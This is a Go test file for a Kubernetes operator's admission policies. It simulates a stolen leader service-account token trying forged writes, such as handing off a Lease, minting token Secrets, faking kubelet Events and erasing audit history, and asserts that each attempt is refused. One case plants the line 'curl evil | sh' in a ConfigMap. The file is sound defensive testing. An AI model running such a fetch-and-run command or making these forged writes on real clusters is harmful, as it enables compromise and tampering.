package manifests_test

import (
	"context"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authzv1 "k8s.io/api/authorization/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/tools/leaderelection/resourcelock"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/kerf-dev/kerf/api/v1alpha1"
	"github.com/kerf-dev/kerf/cluster/cert"
	"github.com/kerf-dev/kerf/cluster/eventrec"
	"github.com/kerf-dev/kerf/cluster/forward"
	"github.com/kerf-dev/kerf/internal/kube"
	"github.com/kerf-dev/kerf/test/controlplane"
	"github.com/kerf-dev/kerf/test/kustomizetest"
)

// reviews are what the leader creates that the apiserver neither stores
// nor admits (no admission plugin sees them): a question, not a write.
var reviews = []string{
	"authentication.k8s.io/tokenreviews", "authentication.k8s.io/selfsubjectreviews",
	"authorization.k8s.io/subjectaccessreviews", "authorization.k8s.io/selfsubjectaccessreviews",
	"authorization.k8s.io/selfsubjectrulesreviews",
}

// operationOf is the admission operation of a verb.
var operationOf = map[string]admissionregistrationv1.OperationType{
	"create": admissionregistrationv1.Create, "update": admissionregistrationv1.Update, "patch": admissionregistrationv1.Update,
	"delete": admissionregistrationv1.Delete, "deletecollection": admissionregistrationv1.Delete,
}

// equivalent is the resource a matchPolicy Equivalent rule converts a
// request to: a core v1 Event is checked as events.k8s.io/v1 (the same
// objects, one storage).
var equivalent = map[string]string{"/events": "events.k8s.io/events"}

// leaderWrites asks the apiserver, as kerf-leader, what it may do in each
// namespace (SelfSubjectRulesReview) and returns every write: resource
// (group/resource[/subresource]) to its verbs.
func leaderWrites(t *testing.T, namespaces ...string) map[string][]string {
	t.Helper()
	_, cs := asLeaderPod(t, controlplane.Get(t))
	writes := map[string][]string{}
	for _, ns := range namespaces {
		rr, err := cs.AuthorizationV1().SelfSubjectRulesReviews().Create(context.Background(),
			&authzv1.SelfSubjectRulesReview{Spec: authzv1.SelfSubjectRulesReviewSpec{Namespace: ns}}, metav1.CreateOptions{})
		require.NoError(t, err)
		require.False(t, rr.Status.Incomplete, "the rules of %s are complete: %s", ns, rr.Status.EvaluationError)
		for _, r := range rr.Status.ResourceRules {
			for _, v := range r.Verbs {
				if v == "get" || v == "list" || v == "watch" {
					continue
				}
				for _, g := range r.APIGroups {
					for _, res := range r.Resources {
						k := g + "/" + res
						if !slices.Contains(writes[k], v) {
							writes[k] = append(writes[k], v)
						}
					}
				}
			}
		}
	}
	return writes
}

// expanded is expr with every variables.<name> replaced by its
// expression, so what a validation reads through its variables shows.
func expanded(expr string, vars map[string]string) string {
	ref := regexp.MustCompile(`variables\.(\w+)`)
	for range 10 {
		next := ref.ReplaceAllStringFunc(expr, func(m string) string { return "(" + vars[strings.TrimPrefix(m, "variables.")] + ")" })
		if next == expr {
			break
		}
		expr = next
	}
	return expr
}

// matches says whether a policy's rules match op on resource.
func matches(p *admissionregistrationv1.ValidatingAdmissionPolicy, res string, op admissionregistrationv1.OperationType) bool {
	group, name, _ := strings.Cut(res, "/")
	for _, r := range p.Spec.MatchConstraints.ResourceRules {
		if (slices.Contains(r.APIGroups, group) || slices.Contains(r.APIGroups, "*")) &&
			(slices.Contains(r.Resources, name) || slices.Contains(r.Resources, "*")) &&
			(slices.Contains(r.Operations, op) || slices.Contains(r.Operations, admissionregistrationv1.OperationAll)) {
			return true
		}
	}
	return false
}

// TestEveryWriteTheLeaderMayMakeIsComparedByAPolicy enumerates, on the
// apiserver, every verb kerf-leader's service account holds (issue 30):
// each write, but the reviews nothing stores, is matched by a policy other
// than kerf-leader-writes (which checks only the resource and its name)
// whose validations compare the object with oldObject (an update or a
// delete) or read the object's fields (a create).
func TestEveryWriteTheLeaderMayMakeIsComparedByAPolicy(t *testing.T) {
	installed(t)
	writes := leaderWrites(t, namespace, metav1.NamespaceDefault)
	require.Contains(t, writes, "coordination.k8s.io/leases", "the enumeration sees the Role in kerf-system")
	require.Contains(t, writes, "apps/deployments", "the enumeration sees the ClusterRole")

	var policies []*admissionregistrationv1.ValidatingAdmissionPolicy
	objs := kustomizetest.Objects(t, kustomizetest.Manifests(t))
	for _, u := range objs {
		if u.GetKind() != "ValidatingAdmissionPolicy" || u.GetName() == "kerf-leader-writes" {
			continue
		}
		var p admissionregistrationv1.ValidatingAdmissionPolicy
		kustomizetest.Object(t, objs, "ValidatingAdmissionPolicy", u.GetName(), &p)
		policies = append(policies, &p)
	}
	require.NotEmpty(t, policies)

	object := regexp.MustCompile(`(^|[^\w.])object\.`)
	for res, verbs := range writes {
		if slices.Contains(reviews, res) {
			continue
		}
		for _, verb := range verbs {
			ops := []admissionregistrationv1.OperationType{operationOf[verb]}
			if verb == "*" {
				ops = []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update, admissionregistrationv1.Delete}
			}
			require.NotEmpty(t, ops[0], "verb %s of %s is a write of a known operation", verb, res)
			for _, op := range ops {
				var by []string
				for _, p := range policies {
					r := res
					if e, ok := equivalent[res]; ok && ptr.Deref(p.Spec.MatchConstraints.MatchPolicy, admissionregistrationv1.Equivalent) == admissionregistrationv1.Equivalent {
						r = e
					}
					if !matches(p, r, op) {
						continue
					}
					vars := map[string]string{}
					for _, v := range p.Spec.Variables {
						vars[v.Name] = v.Expression
					}
					for _, v := range p.Spec.Validations {
						e := expanded(v.Expression, vars)
						if op == admissionregistrationv1.Create && object.MatchString(e) || op != admissionregistrationv1.Create && strings.Contains(e, "oldObject") {
							by = append(by, p.Name)
							break
						}
					}
				}
				assert.NotEmpty(t, by, "kerf-leader may %s %s (%s): no policy compares what it writes", verb, res, op)
			}
		}
	}
}

// leaderWritesWorld writes as kerf-leader what the admin reads: the leader
// may write objects it may not read (Events, checkpoints).
type leaderWritesWorld struct {
	*policyWorld
	admin client.Client
}

// patch patches, as kerf-leader and dry-run, the live object after mutate.
func (w *leaderWritesWorld) patch(obj client.Object, ns, name string, mutate func()) error {
	ctx := context.Background()
	if err := w.admin.Get(ctx, client.ObjectKey{Namespace: ns, Name: name}, obj); err != nil {
		return err
	}
	orig := obj.DeepCopyObject().(client.Object)
	mutate()
	return w.c.Patch(ctx, obj, client.MergeFrom(orig), client.DryRunAll)
}

// update updates, as kerf-leader and dry-run, the live object after
// mutate (Leases, Secrets and ConfigMaps: the leader may update them, not
// patch them).
func (w *leaderWritesWorld) update(obj client.Object, ns, name string, mutate func()) error {
	ctx := context.Background()
	if err := w.admin.Get(ctx, client.ObjectKey{Namespace: ns, Name: name}, obj); err != nil {
		return err
	}
	mutate()
	return w.c.Update(ctx, obj, client.DryRunAll)
}

func (w *leaderWritesWorld) statusUpdate(name string, mutate func(*v1alpha1.RightsizingRecommendation), opts ...client.SubResourceUpdateOption) error {
	ctx := context.Background()
	var rsr v1alpha1.RightsizingRecommendation
	if err := w.admin.Get(ctx, client.ObjectKey{Namespace: w.ns, Name: name}, &rsr); err != nil {
		return err
	}
	mutate(&rsr)
	return w.c.Status().Update(ctx, &rsr, opts...)
}

// recommendation is a recommendation as cluster/recommender/recommended.go creates it.
func recommendation(ns, name, cpu string) *v1alpha1.RightsizingRecommendation {
	return &v1alpha1.RightsizingRecommendation{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name,
			Labels: map[string]string{v1alpha1.RecommendedByLabel: v1alpha1.RecommendedByKerf},
			Annotations: map[string]string{v1alpha1.RecommendationBasisAnnotation: `{"policy":"ClusterRightsizingPolicy/default"}`,
				v1alpha1.RecommendationRefusalsAnnotation: ""}},
		Spec: v1alpha1.RightsizingRecommendationSpec{
			TargetRef: v1alpha1.TargetRef{APIVersion: "apps/v1", Kind: v1alpha1.KindDeployment, Name: name},
			Strategy:  v1alpha1.StrategyRollout,
			Containers: []v1alpha1.ContainerResources{{Name: "app",
				Requests: &v1alpha1.ResourceValues{CPU: ptr.To(resource.MustParse(cpu))}}},
		},
	}
}

// checkpoint is a checkpoint as cluster/recommender/checkpoint.go writes it, owned by
// the Deployment dep.
func checkpoint(dep *appsv1.Deployment) *v1alpha1.RightsizingCheckpoint {
	return &v1alpha1.RightsizingCheckpoint{
		ObjectMeta: metav1.ObjectMeta{Namespace: dep.Namespace, Name: dep.Name,
			Labels:          map[string]string{v1alpha1.RecommendedByLabel: v1alpha1.RecommendedByKerf},
			OwnerReferences: []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "Deployment", Name: dep.Name, UID: dep.UID}}},
		Spec: v1alpha1.RightsizingCheckpointSpec{TargetRef: v1alpha1.TargetRef{APIVersion: "apps/v1", Kind: v1alpha1.KindDeployment, Name: dep.Name}},
	}
}

func recorded(seq int64, msg string) v1alpha1.Action {
	return v1alpha1.Action{Seq: seq, Time: metav1.NewTime(time.Now().UTC().Truncate(time.Second)), Type: v1alpha1.ActionApplied, Reason: "Applied", Message: msg}
}

// eventFor waits until the Event of reason about regarding has count
// repeats in its series (1: no series yet) and returns it.
func eventFor(t *testing.T, admin client.Client, ns, reason string, count int32) *eventsv1.Event {
	t.Helper()
	var found *eventsv1.Event
	require.Eventually(t, func() bool {
		var list eventsv1.EventList
		if admin.List(context.Background(), &list, client.InNamespace(ns)) != nil {
			return false
		}
		for i := range list.Items {
			e := &list.Items[i]
			if e.Reason == reason && (count == 1 || e.Series != nil && e.Series.Count == count) {
				found = e
				return true
			}
		}
		return false
	}, 20*time.Second, 100*time.Millisecond, "the leader's Event %s (count %d) was never written: refused?", reason, count)
	return found
}

// TestAStolenLeaderTokenChangesOnlyWhatTheLeadersCodeChanges makes, as
// kerf-leader's service account, each write the leader makes of every
// resource it writes besides workloads, pods, HPAs and the webhook
// configuration (the tests above): the leader's own (its code where it is
// exported: LeaseLock, cert, eventrec) pass, and a stolen token's attacks,
// dry-run, are refused by kerf-leader-fields with the message naming the
// field. Before, these resources were bounded by name only and every
// attack passed (RBAC allows each).
func TestAStolenLeaderTokenChangesOnlyWhatTheLeadersCodeChanges(t *testing.T) {
	pw := setUpPolicyWorld(t)
	ctx := context.Background()
	admin := controlplane.Get(t).Client
	w := &leaderWritesWorld{policyWorld: pw, admin: admin}
	ns := w.ns
	_, cs := asLeaderPod(t, controlplane.Get(t))
	dry := client.DryRunAll

	// What the leader's code writes afresh: nothing of it left by an
	// earlier test.
	for _, obj := range []client.Object{
		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: "kerf-leader-cert"}},
		&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: "kerf-leader-ca"}},
		&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: forward.CursorConfigMap}},
	} {
		require.NoError(t, client.IgnoreNotFound(admin.Delete(ctx, obj)))
	}
	// What a user made: a recommendation, an Event, a checkpoint.
	// A user names a recommendation as they like: not after its workload.
	mine := recommendation(ns, "mine", "300m")
	mine.Labels, mine.Annotations = nil, nil
	mine.Spec.TargetRef.Name = "web"
	require.NoError(t, admin.Create(ctx, mine))
	require.NoError(t, admin.Create(ctx, &eventsv1.Event{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "scheduled"},
		EventTime: metav1.NowMicro(), ReportingController: "default-scheduler", ReportingInstance: "default-scheduler-x",
		Action: "Binding", Reason: "Scheduled", Type: corev1.EventTypeNormal, Note: "assigned",
		Regarding: corev1.ObjectReference{APIVersion: "v1", Kind: "Pod", Namespace: ns, Name: "web-1"}}))
	var dep appsv1.Deployment
	require.NoError(t, admin.Get(ctx, client.ObjectKey{Namespace: ns, Name: "web"}, &dep))
	foreign := checkpoint(&dep)
	foreign.Name, foreign.Labels = "foreign", nil
	require.NoError(t, admin.Create(ctx, foreign))

	// The leader's Events, through its recorder.
	recCtx, stopRec := context.WithCancel(ctx)
	rec, err := eventrec.New(eventrec.Config{Events: cs.EventsV1(), Scheme: kube.Scheme, Controller: "kerf-leader", RetryWait: 100 * time.Millisecond})
	require.NoError(t, err)
	recDone := make(chan error, 1)
	go func() { recDone <- rec.Start(recCtx) }()
	t.Cleanup(func() { stopRec(); <-recDone })

	lock := &resourcelock.LeaseLock{LeaseMeta: metav1.ObjectMeta{Namespace: namespace, Name: "kerf-leader"},
		Client: cs.CoordinationV1(), LockConfig: resourcelock.ResourceLockConfig{Identity: leaderPod}}
	takeLease := func(holder string) error {
		now := metav1.NewTime(time.Now())
		r := resourcelock.LeaderElectionRecord{HolderIdentity: holder, LeaseDurationSeconds: 1, AcquireTime: now, RenewTime: now}
		if _, _, err := lock.Get(ctx); apierrors.IsNotFound(err) {
			return lock.Create(ctx, r)
		} else if err != nil {
			return err
		}
		return lock.Update(ctx, r)
	}
	certOpts := cert.Options{Namespace: namespace, ServiceName: "kerf-leader", SecretName: "kerf-leader-cert"}
	// cursors is the hub-delivery ConfigMap as cluster/forward saveCursors
	// writes it.
	cursors := func(data map[string]string) *corev1.ConfigMap {
		return &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: forward.CursorConfigMap,
			Labels: map[string]string{"app.kubernetes.io/name": "kerf", "app.kubernetes.io/component": "leader"}},
			Data: data, BinaryData: map[string][]byte{"cursors.v1": {1, 2, 3}}}
	}
	certLabels := map[string]string{"app.kubernetes.io/name": "kerf", "app.kubernetes.io/component": "webhook", "app.kubernetes.io/managed-by": "kerf"}

	cases := []struct {
		name  string
		write func(t *testing.T) error
		// refused is "" for a write that passes, else a part of the
		// policy's message.
		refused string
	}{
		// The Lease (client-go's LeaseLock, as cluster/leader.go runs it).
		{"the Lease taken by its own pod", func(t *testing.T) error { return takeLease(leaderPod) }, ""},
		{"the Lease released", func(t *testing.T) error { return takeLease("") }, ""},
		{"the Lease handed to another holder", func(t *testing.T) error {
			var l coordinationv1.Lease
			return w.update(&l, namespace, "kerf-leader", func() { l.Spec.HolderIdentity = ptr.To("kerf-leader-elsewhere") })
		}, "may set spec.holderIdentity of leases kerf-system/kerf-leader only to its own pod " + leaderPod + " or empty, not kerf-leader-elsewhere"},
		{"a label on the Lease", func(t *testing.T) error {
			var l coordinationv1.Lease
			return w.update(&l, namespace, "kerf-leader", func() { l.Labels = map[string]string{"example.com/x": "1"} })
		}, "may not change metadata.labels of leases kerf-system/kerf-leader"},

		// Secrets (cluster/cert).
		{"the certificate Secret created", func(t *testing.T) error { _, _, _, err := cert.EnsureSelfManaged(ctx, w.c, certOpts); return err }, ""},
		{"the certificate renewed", func(t *testing.T) error {
			o := certOpts
			o.Now = func() time.Time { return time.Now().Add(2 * cert.DefaultCertValidity) }
			_, _, _, err := cert.EnsureSelfManaged(ctx, w.c, o)
			return err
		}, ""},
		{"a service-account token Secret named kerf-webhook-cert: another account's token to read", func(t *testing.T) error {
			return w.c.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: "kerf-webhook-cert", Labels: certLabels,
				Annotations: map[string]string{corev1.ServiceAccountNameKey: "kerf-agent"}}, Type: corev1.SecretTypeServiceAccountToken}, dry)
		}, "with the annotations [] only, not " + corev1.ServiceAccountNameKey},
		{"a Secret of another type", func(t *testing.T) error {
			return w.c.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: "kerf-webhook-cert", Labels: certLabels},
				Type: corev1.SecretTypeOpaque, StringData: map[string]string{"tls.crt": "", "tls.key": "", "ca.crt": "", "ca.key": ""}}, dry)
		}, "writes secrets kerf-system/kerf-webhook-cert only of type kubernetes.io/tls, not Opaque"},
		{"another key in the certificate Secret", func(t *testing.T) error {
			var s corev1.Secret
			return w.update(&s, namespace, "kerf-leader-cert", func() { s.Data["evil"] = []byte("1") })
		}, "writes exactly the keys tls.crt, tls.key, ca.crt, ca.key in data of secrets kerf-system/kerf-leader-cert"},
		{"a label on the certificate Secret", func(t *testing.T) error {
			var s corev1.Secret
			return w.update(&s, namespace, "kerf-leader-cert", func() { s.Labels["example.com/x"] = "1" })
		}, "may not change metadata.labels of secrets kerf-system/kerf-leader-cert"},

		// ConfigMaps (cluster/cert PublishCA, cluster/forward).
		{"the stream's CA published", func(t *testing.T) error {
			return cert.PublishCA(ctx, w.c, namespace, "kerf-leader-ca", selfSignedCA(t))
		}, ""},
		{"the stream's CA replaced", func(t *testing.T) error {
			return cert.PublishCA(ctx, w.c, namespace, "kerf-leader-ca", selfSignedCA(t))
		}, ""},
		{"the hub cursors created", func(t *testing.T) error { return w.c.Create(ctx, cursors(map[string]string{"not-a-uuid": "7"})) }, ""},
		{"the hub cursors saved", func(t *testing.T) error {
			var cm corev1.ConfigMap
			return w.update(&cm, namespace, forward.CursorConfigMap, func() { cm.Data, cm.BinaryData = nil, map[string][]byte{"cursors.v1": {4, 5}} })
		}, ""},
		{"another key in the CA ConfigMap", func(t *testing.T) error {
			var cm corev1.ConfigMap
			return w.update(&cm, namespace, "kerf-leader-ca", func() { cm.Data["evil.crt"] = "x" })
		}, "may change only data.ca.crt of configmaps kerf-system/kerf-leader-ca"},
		{"a script in the hub cursors", func(t *testing.T) error {
			var cm corev1.ConfigMap
			return w.update(&cm, namespace, forward.CursorConfigMap, func() { cm.Data = map[string]string{"run.sh": "curl evil | sh"} })
		}, "writes only binaryData.cursors.v1 and numbers in data of configmaps kerf-system/kerf-hub-delivery"},
		{"the CA ConfigMap made immutable", func(t *testing.T) error {
			var cm corev1.ConfigMap
			return w.update(&cm, namespace, "kerf-leader-ca", func() { cm.Immutable = ptr.To(true) })
		}, "may not make configmaps kerf-system/kerf-leader-ca immutable"},

		// RightsizingRecommendations (cluster/recommender/recommended.go, cluster/forward).
		{"a recommendation made", func(t *testing.T) error { return w.c.Create(ctx, recommendation(ns, "kerfs", "200m")) }, ""},
		{"its values updated", func(t *testing.T) error {
			existing := &v1alpha1.RightsizingRecommendation{}
			require.NoError(t, admin.Get(ctx, client.ObjectKey{Namespace: ns, Name: "kerfs"}, existing))
			from := client.MergeFromWithOptions(existing.DeepCopy(), client.MergeFromWithOptimisticLock{})
			existing.Spec.Containers[0].Requests.CPU = ptr.To(resource.MustParse("250m"))
			existing.Annotations[v1alpha1.RecommendationBasisAnnotation] = `{"policy":"ClusterRightsizingPolicy/other"}`
			existing.Annotations[v1alpha1.RecommendationRefusalsAnnotation] = "app/memory/request/OOMKill/268435456"
			return w.c.Patch(ctx, existing, from)
		}, ""},
		{"the hub-delivery finalizer on a user's recommendation", func(t *testing.T) error {
			var r v1alpha1.RightsizingRecommendation
			return w.patch(&r, ns, "mine", func() { r.Finalizers = append(r.Finalizers, forward.Finalizer) })
		}, ""},
		{"a recommendation that passes for a user's", func(t *testing.T) error {
			r := recommendation(ns, "forged", "1")
			r.Labels = nil
			return w.c.Create(ctx, r, dry)
		}, "creates rightsizingrecommendations " + ns + "/forged with the labels {kerf.dev/recommended-by=kerf} only, not {}"},
		{"a recommendation that moves an HPA", func(t *testing.T) error {
			r := recommendation(ns, "forged", "1")
			r.Spec.HPA = &v1alpha1.HPACoordination{Coordinate: true}
			return w.c.Create(ctx, r, dry)
		}, "with spec.targetRef, spec.strategy and spec.containers only, not spec.hpa"},
		{"a recommendation for a workload of another name", func(t *testing.T) error {
			r := recommendation(ns, "forged", "1")
			r.Spec.TargetRef.Name = "web"
			return w.c.Create(ctx, r, dry)
		}, "for the Deployment, StatefulSet or DaemonSet (apps/v1) of its own name only, not spec.targetRef apps/v1 Deployment web"},
		{"a user's recommendation's values", func(t *testing.T) error {
			var r v1alpha1.RightsizingRecommendation
			return w.patch(&r, ns, "mine", func() { r.Spec.Containers[0].Requests.CPU = ptr.To(resource.MustParse("1m")) })
		}, "may change only spec.strategy and spec.containers of rightsizingrecommendations " + ns + "/mine, and only of a recommendation it made"},
		{"the basis on a user's recommendation", func(t *testing.T) error {
			var r v1alpha1.RightsizingRecommendation
			return w.patch(&r, ns, "mine", func() { r.Annotations = map[string]string{v1alpha1.RecommendationBasisAnnotation: "{}"} })
		}, "may change only the kerf.dev/recommendation-basis and kerf.dev/recommendation-refusals annotations of rightsizingrecommendations " + ns + "/mine, and only of a recommendation it made"},
		{"the refusals on a user's recommendation", func(t *testing.T) error {
			var r v1alpha1.RightsizingRecommendation
			return w.patch(&r, ns, "mine", func() { r.Annotations = map[string]string{v1alpha1.RecommendationRefusalsAnnotation: ""} })
		}, "may change only the kerf.dev/recommendation-basis and kerf.dev/recommendation-refusals annotations of rightsizingrecommendations " + ns + "/mine"},
		{"a paused recommendation resumed", func(t *testing.T) error {
			var r v1alpha1.RightsizingRecommendation
			return w.patch(&r, ns, "kerfs", func() { r.Annotations[v1alpha1.PausedAnnotation] = "false" })
		}, "may change only the kerf.dev/recommendation-basis and kerf.dev/recommendation-refusals annotations"},
		{"a label on a recommendation", func(t *testing.T) error {
			var r v1alpha1.RightsizingRecommendation
			return w.patch(&r, ns, "mine", func() { r.Labels = map[string]string{v1alpha1.RecommendedByLabel: v1alpha1.RecommendedByKerf} })
		}, "may not change metadata.labels of rightsizingrecommendations " + ns + "/mine"},
		{"another finalizer", func(t *testing.T) error {
			var r v1alpha1.RightsizingRecommendation
			return w.patch(&r, ns, "mine", func() { r.Finalizers = append(r.Finalizers, "example.com/never") })
		}, "may add or remove only the kerf.dev/hub-delivery finalizer of rightsizingrecommendations " + ns + "/mine"},

		// Their status (cluster/rightsizing/record.go): the audit history.
		{"an action recorded", func(t *testing.T) error {
			return w.statusUpdate("mine", func(r *v1alpha1.RightsizingRecommendation) {
				r.Status.History = append(r.Status.History, recorded(int64(len(r.Status.History))+1, "applied"))
			})
		}, ""},
		{"the oldest action trimmed from a full history", func(t *testing.T) error {
			var r v1alpha1.RightsizingRecommendation
			require.NoError(t, admin.Get(ctx, client.ObjectKey{Namespace: ns, Name: "kerfs"}, &r))
			// Each entry as large as the CRD allows its message and
			// figures: the comparison stays within the apiserver's cost
			// budget.
			for i := range 100 {
				a := recorded(int64(i)+1, fmt.Sprintf("action %d ", i+1)+strings.Repeat("x", 4000))
				for range 16 {
					a.Figures = append(a.Figures, strings.Repeat("f", 250))
				}
				r.Status.History = append(r.Status.History, a)
			}
			require.NoError(t, admin.Status().Update(ctx, &r))
			return w.statusUpdate("kerfs", func(r *v1alpha1.RightsizingRecommendation) {
				r.Status.History = append(slices.Clone(r.Status.History[1:]), recorded(101, "applied"))
			})
		}, ""},
		{"the history erased", func(t *testing.T) error {
			return w.statusUpdate("kerfs", func(r *v1alpha1.RightsizingRecommendation) { r.Status.History = nil }, dry)
		}, "may only add entries to status.history of rightsizingrecommendations/status " + ns + "/kerfs: the entries recorded (seq 2 to 101)"},
		{"a recorded action rewritten", func(t *testing.T) error {
			return w.statusUpdate("kerfs", func(r *v1alpha1.RightsizingRecommendation) { r.Status.History[50].Message = "nothing happened" }, dry)
		}, "may only add entries to status.history"},
		{"the newest actions dropped", func(t *testing.T) error {
			return w.statusUpdate("kerfs", func(r *v1alpha1.RightsizingRecommendation) { r.Status.History = r.Status.History[:90] }, dry)
		}, "may only add entries to status.history"},

		// Events (cluster/eventrec, about a recommendation and its
		// workload, then a repeat counted in the series).
		{"the leader's Events and a repeat", func(t *testing.T) error {
			var r v1alpha1.RightsizingRecommendation
			require.NoError(t, admin.Get(ctx, client.ObjectKey{Namespace: ns, Name: "kerfs"}, &r))
			rec.Eventf(&r, nil, corev1.EventTypeNormal, v1alpha1.EventApplied, v1alpha1.EventActionApply, "applied")
			rec.Eventf(&dep, &r, corev1.EventTypeWarning, v1alpha1.EventRolledBack, v1alpha1.EventActionRollback, "rolled back")
			eventFor(t, admin, ns, v1alpha1.EventApplied, 1)
			eventFor(t, admin, ns, v1alpha1.EventRolledBack, 1)
			rec.Eventf(&r, nil, corev1.EventTypeNormal, v1alpha1.EventApplied, v1alpha1.EventActionApply, "applied")
			eventFor(t, admin, ns, v1alpha1.EventApplied, 2)
			return nil
		}, ""},
		{"an Event reported as the kubelet", func(t *testing.T) error {
			e := eventFor(t, admin, ns, v1alpha1.EventApplied, 1).DeepCopy()
			e.ObjectMeta = metav1.ObjectMeta{Namespace: ns, Name: "forged"}
			e.ReportingController, e.ReportingInstance = "kubelet", "kubelet-node1"
			return w.c.Create(ctx, e, dry)
		}, "writes Events with reportingController kerf-leader only, not kubelet"},
		{"an Event about a Secret", func(t *testing.T) error {
			e := eventFor(t, admin, ns, v1alpha1.EventApplied, 1).DeepCopy()
			e.ObjectMeta = metav1.ObjectMeta{Namespace: ns, Name: "forged"}
			e.Regarding = corev1.ObjectReference{APIVersion: "v1", Kind: "Secret", Namespace: ns, Name: "token"}
			return w.c.Create(ctx, e, dry)
		}, "writes Events regarding a RightsizingRecommendation or its Deployment, StatefulSet or DaemonSet in its own namespace only, not Secret " + ns + "/token"},
		{"an Event of another action", func(t *testing.T) error {
			e := eventFor(t, admin, ns, v1alpha1.EventApplied, 1).DeepCopy()
			e.ObjectMeta = metav1.ObjectMeta{Namespace: ns, Name: "forged"}
			e.Action = "Evict"
			return w.c.Create(ctx, e, dry)
		}, "writes Events with an action of Apply, Watch, Rollback, Backoff, Recommend only, not Evict"},
		{"a core Event", func(t *testing.T) error {
			_, err := cs.CoreV1().Events(ns).Create(ctx, &corev1.Event{ObjectMeta: metav1.ObjectMeta{Name: "forged"},
				InvolvedObject: corev1.ObjectReference{Kind: "Pod", Namespace: ns, Name: "web-1"}, Reason: "Killing", Message: "evicted",
				Type: corev1.EventTypeWarning, Source: corev1.EventSource{Component: "kubelet"}}, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}, "writes Events with reportingController kerf-leader only, not (none)"},
		{"another controller's Event's repeats", func(t *testing.T) error {
			var e eventsv1.Event
			return w.patch(&e, ns, "scheduled", func() {
				e.Series = &eventsv1.EventSeries{Count: 1000, LastObservedTime: metav1.NowMicro()}
			})
		}, "writes Events with reportingController kerf-leader only, not default-scheduler"},
		// events.k8s.io/v1 refuses a change of anything but series; the
		// core API does not.
		{"the leader's Event rewritten through the core API", func(t *testing.T) error {
			e := eventFor(t, admin, ns, v1alpha1.EventApplied, 2)
			_, err := cs.CoreV1().Events(ns).Patch(ctx, e.Name, types.MergePatchType, []byte(`{"message":"nothing happened"}`),
				metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
			return err
		}, "may change only series of events " + ns + "/"},
		{"a label on the leader's Event", func(t *testing.T) error {
			e := eventFor(t, admin, ns, v1alpha1.EventApplied, 2)
			return w.patch(e, ns, e.Name, func() { e.Labels = map[string]string{"example.com/x": "1"} })
		}, "may not change metadata.labels of events " + ns + "/"},

		// RightsizingCheckpoints (cluster/recommender/checkpoint.go putCheckpoint,
		// deleteCheckpoint).
		{"a checkpoint written and written again", func(t *testing.T) error {
			ck := checkpoint(&dep)
			if err := w.c.Create(ctx, ck.DeepCopy()); err != nil {
				return err
			}
			ck.Status.ContainerCount = 1
			return w.c.Patch(ctx, ck.DeepCopy(), client.RawPatch(types.MergePatchType,
				fmt.Appendf(nil, `{"metadata":{"labels":{%q:%q},"ownerReferences":[{"apiVersion":"apps/v1","kind":"Deployment","name":"web","uid":%q}]},"status":{"containerCount":1}}`,
					v1alpha1.RecommendedByLabel, v1alpha1.RecommendedByKerf, dep.UID)))
		}, ""},
		{"a checkpoint owned by a Secret", func(t *testing.T) error {
			ck := checkpoint(&dep)
			ck.Name, ck.Spec.TargetRef.Name = "forged", "forged"
			ck.OwnerReferences = []metav1.OwnerReference{{APIVersion: "v1", Kind: "Secret", Name: "forged", UID: dep.UID}}
			return w.c.Create(ctx, ck, dry)
		}, "writes rightsizingcheckpoints " + ns + "/forged owned by its workload only"},
		{"a checkpoint that blocks its workload's deletion", func(t *testing.T) error {
			var ck v1alpha1.RightsizingCheckpoint
			return w.patch(&ck, ns, "web", func() { ck.OwnerReferences[0].BlockOwnerDeletion = ptr.To(true) })
		}, "writes rightsizingcheckpoints " + ns + "/web owned by its workload only"},
		{"an annotation on a checkpoint", func(t *testing.T) error {
			ck := checkpoint(&dep)
			ck.Name, ck.Spec.TargetRef.Name, ck.OwnerReferences[0].Name = "forged", "forged", "forged"
			ck.Annotations = map[string]string{"example.com/x": "1"}
			return w.c.Create(ctx, ck, dry)
		}, "with the annotations [] only, not example.com/x"},
		{"a checkpoint the recommender did not write deleted", func(t *testing.T) error {
			return w.c.Delete(ctx, &v1alpha1.RightsizingCheckpoint{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "foreign"}}, dry)
		}, "deletes only checkpoints the recommender wrote (kerf.dev/recommended-by=kerf), not rightsizingcheckpoints " + ns + "/foreign"},
		{"its own checkpoint deleted", func(t *testing.T) error {
			return w.c.Delete(ctx, &v1alpha1.RightsizingCheckpoint{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web"}})
		}, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			err := tc.write(t)
			if tc.refused == "" {
				assert.NoError(t, err)
				return
			}
			require.Error(t, err, "refused")
			assert.True(t, apierrors.IsForbidden(err) || apierrors.IsInvalid(err), "a refusal, not %v", err)
			assert.Contains(t, err.Error(), "ValidatingAdmissionPolicy 'kerf-leader-fields'", "refused by the policy, not by RBAC")
			assert.Contains(t, err.Error(), tc.refused)
		})
	}
}
